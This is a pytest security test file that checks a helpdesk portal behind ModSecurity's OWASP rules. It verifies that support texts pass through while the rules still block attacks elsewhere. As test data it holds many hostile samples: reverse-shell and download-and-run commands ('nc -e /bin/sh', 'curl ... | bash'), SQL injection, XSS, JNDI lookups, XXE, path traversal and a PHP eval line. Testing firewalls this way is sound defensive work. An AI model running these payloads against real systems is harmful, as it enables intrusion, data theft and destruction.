# tests/security/test_firewall.py: the portal behind mod_security2 with the OWASP core rule set at paranoia level 1 and
# conf/examples/modsecurity-exclusions.conf: whatever clients of a hosting company write is neither blocked nor reported,
# and the rules still hold everywhere else.
# SPDX-License-Identifier: Apache-2.0
import pathlib
import urllib.parse
import uuid

import pytest

from portal import MODULES, REPO, Site
from samples import EXE, GIF, HTML, JPEG, PDF, SVG, ZIP, png
from test_work import press

RULES = "/usr/share/modsecurity-crs"
HOST = {"Host": "support.example.com", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "Accept-Language": "sr-Latn-RS,sr;q=0.8,en;q=0.5",
        "Referer": "http://support.example.com/portal/"}

# What people ask a hosting company about.
TEXTS = {
    "sql": "This fails:\n\n    SELECT * FROM users WHERE name = '' OR 1=1; -- ' AND password = 'x'\n    DROP TABLE orders;\n    INSERT INTO a VALUES (1, 'b') UNION ALL SELECT NULL, @@version, sleep(5) FROM information_schema.tables",
    "sql-error": "ERROR 1064 (42000): You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''' at line 1\nWarning: mysql_fetch_array() expects parameter 1 to be resource\nORA-01756: quoted string not properly terminated",
    "php": "<?php\n$db = mysqli_connect('localhost', $_GET['user'], $_POST['pw']);\neval(base64_decode('ZWNobyAx'));\nsystem('ls -la /var/www'); phpinfo();\n?>\n\nPHP Fatal error:  Uncaught Error: Call to undefined function in /srv/www/index.php:12",
    "html": "<script>alert(document.cookie)</script> <img src=x onerror=\"alert(1)\"> <iframe src=\"javascript:alert(1)\"></iframe>\n<a href=\"#\" onclick='x()'>x</a> <style>@import url(//example.com/a.css)</style>",
    "shell": "I ran `wget http://example.com/x.sh | sh; cat /etc/passwd && rm -rf /tmp/*` and then\n\n    $(curl -s https://example.com/install.sh | bash -s -- --yes)\n    ping -c 4 127.0.0.1; nc -e /bin/sh 10.0.0.1 4444\n    powershell -enc SQBFAFgA; cmd.exe /c dir C:\\Windows\\System32",
    "paths": "../../../../etc/passwd is in the log, and /proc/self/environ, C:\\boot.ini, file:///etc/shadow, php://input, .htaccess, wp-config.php, /.git/config",
    "htaccess": "RewriteEngine On\nRewriteCond %{HTTP_HOST} !^www\\. [NC]\nRewriteRule ^(.*)$ https://%{HTTP_HOST}/$1 [R=301,L]\n<FilesMatch \"\\.php$\">\nSetHandler application/x-httpd-php\n</FilesMatch>",
    "java": "java.lang.NullPointerException\n\tat org.apache.catalina.core.StandardWrapperValve.invoke(StandardWrapperValve.java:197)\n${jndi:ldap://example.com/a} java.lang.Runtime.getRuntime().exec(\"id\") %{(#a=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    "javascript": "var a = window.location; document.write('<b>' + a + '</b>'); fetch('/x').then(r => r.json()); setTimeout(\"x()\", 10); require('child_process').exec('id'); a.__proto__.b = constructor.prototype;",
    "python": "Traceback (most recent call last):\n  File \"/srv/app.py\", line 3, in <module>\n    os.system('id')\n{{ 7*7 }} {% import os %} ${7*7} #{7*7} <%= 7*7 %>",
    "mail-headers": "Received: from mx.example.com (127.0.0.1) by mail; Tue, 1 Jan 2030 00:00:00 +0000\nTo: a@example.com\nBcc: b@example.com\nSubject: =?utf-8?q?a?=\nContent-Type: text/html\n\nbody",
    "http": "GET /index.php?id=1%27%20or%201=1 HTTP/1.1\r\nHost: example.com\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\n",
    "log": "127.0.0.1 - - [01/Jan/2030:00:00:00 +0000] \"GET /wp-login.php?redirect_to=http%3A%2F%2Fexample.com HTTP/1.1\" 500 12 \"-\" \"sqlmap/1.7 (nikto)\"\n[core:error] AH00126: Invalid URI in request GET /../../etc/passwd",
    "xml": "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a> //user[name/text()='' or '1'='1']",
    "address": "http://192.0.2.10/index.php does not open, https://203.0.113.7/?page=http://192.0.2.1/x.txt does; ftp://10.0.0.1/ too",
    "cookie": "document.cookie = \"PHPSESSID=1; domain=.example.com\"; Set-Cookie: a=b; http-equiv=\"Set-Cookie\" jsessionid=5 phpsessid=7",
    "cron": "*/5 * * * * /usr/bin/php -q /srv/www/cron.php > /dev/null 2>&1; sudo chmod -R 777 /var/www; find / -name '*.bak' -exec rm {} \\;",
    "serbian-latin": "Poštovani, sajt ne radi od juče; šaljem snimak ekrana. Da li možete „vratiti“ bazu – hitno! Đorđe & Ćira, 50% popusta, 1.234,56 RSD",
    "serbian-cyrillic": "Поштовани, сајт не ради од јуче (грешка 500). Шаљем снимак екрана; „хитно“ — Ђорђе Љубичић, улица Његошева бр. 5/III",
    "emoji": "It works now 👍🏽 — thanks!!! :) <3 ;-) (see http://example.com/?a=1&b=2#c) 100% ok @ 5 o'clock, O'Brien \"quoted\" `code` *bold* _x_ ~~y~~ | a | b |",
}
FILES = [("slika (1).png", png(), "image/png"), ("Снимак екрана 2030-01-01 у 10.00.00.png", png(3, 3), "image/png"), ("a.jpg", JPEG, "image/jpeg"),
         ("a.gif", GIF, "image/gif"), ("račun.pdf", PDF, "application/pdf"), ("index.php", TEXTS["php"].encode(), "application/x-php"),
         ("wp-config.php", TEXTS["php"].encode(), "application/octet-stream"), ("backup.sql", TEXTS["sql"].encode(), "application/sql"),
         (".htaccess", TEXTS["htaccess"].encode(), "application/octet-stream"), ("error.log", TEXTS["log"].encode(), "text/plain"),
         ("site.bak", ZIP, "application/octet-stream"), ("page.html", HTML, "text/html"), ("logo.svg", SVG, "image/svg+xml"),
         ("it's; a=b & c.txt", TEXTS["shell"].encode(), "text/plain"), ("backup.tar.gz", b"\x1f\x8b\x08\0" + b"\0" * 40, "application/gzip")]
PASSWORDS_CHOSEN = ["' or 1=1 -- select * from users", "<script>alert(1)</script>", "$(cat /etc/passwd); rm -rf /", "../../etc/passwd <?php eval($_POST[1])"]


def rules():
    """mod_security2 as Debian ships it, engine on, with the core rule set; and our exclusions before the rules."""
    recommended = pathlib.Path("/etc/modsecurity/modsecurity.conf-recommended").read_text()
    recommended = recommended.replace("/var/log/apache2/modsec_audit.log", "@STATE@/logs/modsecurity_audit.log")
    recommended = recommended.replace("unicode.mapping", "/etc/modsecurity/unicode.mapping")
    return f"""
LoadModule security2_module {MODULES}/mod_security2.so
{recommended}
SecRuleEngine On
HelpdeskAttachmentMax 20M
SecDataDir "@STATE@/run"
SecTmpDir "@STATE@/run"
{(REPO / "conf/examples/modsecurity-exclusions.conf").read_text()}
Include /etc/modsecurity/crs/crs-setup.conf
Include {RULES}/rules/*.conf
"""


def behind(site):
    """Visitors come by the portal's name: a rule reports numeric hosts."""
    make = site.client
    site.client = lambda port=None, tls=None, headers=None: make(port, tls, {**HOST, **(headers or {})})
    return site


@pytest.fixture(scope="module")
def started():
    site = behind(Site(rules(), name="firewall"))
    try:
        site.start()
        site.log_read = len((site.place / "logs/error_log").read_text("utf-8", "replace"))  # the start asks for /healthz by a numeric host
        yield site
    finally:
        site.stop()
        site.remove()


@pytest.fixture
def site(started):
    """error_log may have no line of ModSecurity's (they are errors) but those that a test has announced."""
    yield started
    started.check_log()


@pytest.fixture
def client(site):
    return site.browser("client@example.com")


@pytest.fixture
def agent(site):
    return site.browser("agent@example.com")


@pytest.fixture
def admin(site):
    return site.browser("admin@example.com")


def open_ticket(client, subject, body, files=()):
    answer = client.form("/tickets/new", "/tickets/new").send(files, department="technical", subject=subject, body=body)
    assert answer.status == 303, answer
    return answer.location


def first_line(text):
    return " ".join(text.split())[:150]


@pytest.mark.parametrize("name", TEXTS)
def test_a_conversation_about_anything_goes_through(site, client, agent, name):
    text = TEXTS[name]
    ticket = open_ticket(client, first_line(text), text)
    assert client.get(ticket).status == 200
    assert client.get("/tickets/").status == 200
    assert client.get(ticket, {"Accept": "application/xml"}).status == 200
    assert client.form(ticket, "/reply").send(body=text, preview="1").status == 200
    assert client.form(ticket, "/reply").send(body=text).status == 303
    desk = ticket.replace("/tickets/", "/desk/tickets/")
    assert agent.form(desk, "/reply").send(body=text).status == 303
    ref = ticket.rpartition("/")[2]
    assert press(agent, ref, "note", body=text).status == 303
    assert press(agent, ref, "set", subject=first_line("About: " + text)).status == 303
    assert agent.get(desk).status == 200
    assert agent.get("/desk/?" + urllib.parse.urlencode({"q": first_line(text)})).status == 200
    assert client.post(f"{ticket}/close").status == 303
    assert client.form(ticket, "/rate").send(rating="1", comment=first_line(text)).status == 303


@pytest.mark.parametrize("name", TEXTS)
def test_what_administrators_write_goes_through(site, admin, name):
    text = TEXTS[name].replace("{{ 7*7 }}", "")  # what stands in such brackets in a canned answer must be known
    languages = "en", "sr-Latn", "sr-Cyrl"
    macro = admin.form("/admin/macros/new", "/admin/macros/new")
    assert macro.send(name=f"About {name}", **{f"body-{language}": text for language in languages}).status == 303
    settings = admin.form("/admin/settings", "/admin/settings")
    assert settings.send(**{f"banner-{language}": first_line(text) for language in languages}).status == 303
    assert admin.get("/admin/settings").status == 200 and admin.get("/admin/audit").status == 200


def test_the_form_comes_back_with_what_was_typed(site, client):
    answer = client.form("/tickets/new", "/tickets/new").send(department="technical", subject="", body=TEXTS["sql-error"] + TEXTS["php"])
    assert answer.status == 422, answer
    answer = client.form("/tickets/new", "/tickets/new").send(department="technical", subject="x", body=TEXTS["html"], csrf="lapsed")
    assert answer.status == 403 and "alert(document.cookie)" in answer.text, answer


@pytest.mark.parametrize("name,data,kind", FILES, ids=[name for name, _, _ in FILES])
def test_a_file_is_sent_and_fetched(site, client, agent, name, data, kind):
    ticket = open_ticket(client, "A file", "See the file", [(name, data, kind)])
    address = client.xml(ticket).xpath("//file/@address")[0]
    for reader in (client, agent):
        answer = reader.get(address)
        assert answer.status == 200 and answer.body == data, answer


def test_a_large_file_goes_through(site, client):
    open_ticket(client, "A large file", "See the file", [("screen.png", png() + b"\0" * 15000000, "image/png")])


def test_a_long_text_goes_through_also_when_it_is_percent_encoded(site, client):
    fields = {"department": "technical", "service": "", "subject": "A long text", "priority": "medium", "body": "Дуг текст. " * 3400}
    assert client.post("/tickets/new", fields).status == 303


def test_closing_and_reopening_go_through(site, client):
    ticket = open_ticket(client, "To be closed", "Text")
    assert client.form(ticket, "/close").send().status == 303
    assert client.form(ticket, "/reopen").send().status == 303


def test_a_program_is_refused_by_the_portal_and_not_by_the_rules(site, client):
    answer = client.form("/tickets/new", "/tickets/new").send([("a.exe", EXE, "application/octet-stream")], department="technical", subject="x", body="y")
    assert answer.status == 422, answer


@pytest.mark.parametrize("password", PASSWORDS_CHOSEN)
def test_any_password_can_be_chosen_and_used(site, password):
    email = site.add_client()
    client = site.sign_in(email)
    form = client.form("/account/password", "/password")
    assert form.send(current="horse-battery-7", password=password, password2=password).status == 303
    assert client.sign_out().status == 303
    assert client.sign_in(email, password).status == 303
    assert site.client().sign_in(email, password + "x").status == 401
    reset = site.client().form("/password/forgot", "/password/forgot").send(email=email)
    assert reset.status == 303
    assert site.client().get("/password/reset?token=" + uuid.uuid4().hex * 2).status == 404


@pytest.mark.parametrize("name", ["O'Connor & Sons, Ltd.", "Љиљана Ђурић-Његош", "Robert'); DROP TABLE students--", "Marko (select) O'Brien and or 1"])
def test_any_name_can_be_taken(site, name):
    client = site.sign_in(site.add_client())
    answer = client.form("/account", "/account").send(name=name, theme="")
    assert answer.status == 303, answer.problems() or answer
    assert client.get("/account").status == 200
    assert client.get("/account/security").status == 200
    open_ticket(client, "Named", "Text")


@pytest.mark.parametrize("path", ["/", "/login", "/login?next=%2Fportal%2Ftickets%2F%3Fstatus%3Dopen", "/password/forgot", "/password/forgot?sent=1",
                                  "/?lang=sr-Latn", "/?lang=sr-Cyrl", "/?lang=en"])
def test_a_public_page_goes_through(site, path):
    assert site.client().get(path).status == 200


@pytest.mark.parametrize("path", ["/", "/services/", "/services/?sort=expires&dir=desc&kind=hosting&state=active", "/support", "/tickets/", "/tickets/?status=all",
                                  "/tickets/new", "/account", "/account/password", "/account/security", "/tickets/?status=closed&after=x"])
def test_a_clients_page_goes_through(site, client, path):
    assert client.get(path).status == 200
    assert client.get(path, {"Accept": "application/xml"}).status == 200


def test_pages_of_the_desk_go_through(site, agent):
    assert agent.get("/desk/").status == 200
    assert agent.get("/desk/?ref=HD-0000000").status == 200


def test_lists_lead_from_page_to_page(site, client):
    for n in range(25):
        open_ticket(client, f"Ticket {n}", "Text")
    older = client.xml("/tickets/?status=all").xpath("//tickets/@older")[0]
    assert client.get(older).status == 200


@pytest.mark.parametrize("path", ["/tickets/?status=1%27%20UNION%20SELECT%20password%20FROM%20person--", "/?lang=%3Cscript%3Ealert(1)%3C/script%3E",
                                  "/login?next=../../../../etc/passwd", "/kb/?q=;cat%20/etc/passwd"])
def test_the_rules_still_hold_where_nobody_writes_texts(site, client, path):
    site.expect_log("ModSecurity: Access denied")
    site.expect_log("ModSecurity: Warning", must=False)
    assert client.get(path).status == 403


def test_the_rules_still_hold_for_other_fields_of_the_same_form(site, client):
    site.expect_log("ModSecurity: Access denied")
    site.expect_log("ModSecurity: Warning", must=False)
    form = client.form("/tickets/new", "/tickets/new")
    assert form.send(department="1' UNION SELECT password FROM person--", subject="x", body="y").status == 403


@pytest.mark.parametrize("url", ["http://10.1.2.3:8080/hooks/a.php?key=1", "https://chat.example.com/hooks/select/.git/config?run=cat"])
def test_the_address_of_a_webhook_goes_through(site, admin, url):
    sent = admin.form("/admin/webhooks/new", "/webhooks/new").send(department="sales", url=url)
    assert sent.status == 303, sent
    path = sent.location.removeprefix("/portal")
    assert admin.form(path, path).send().status == 303
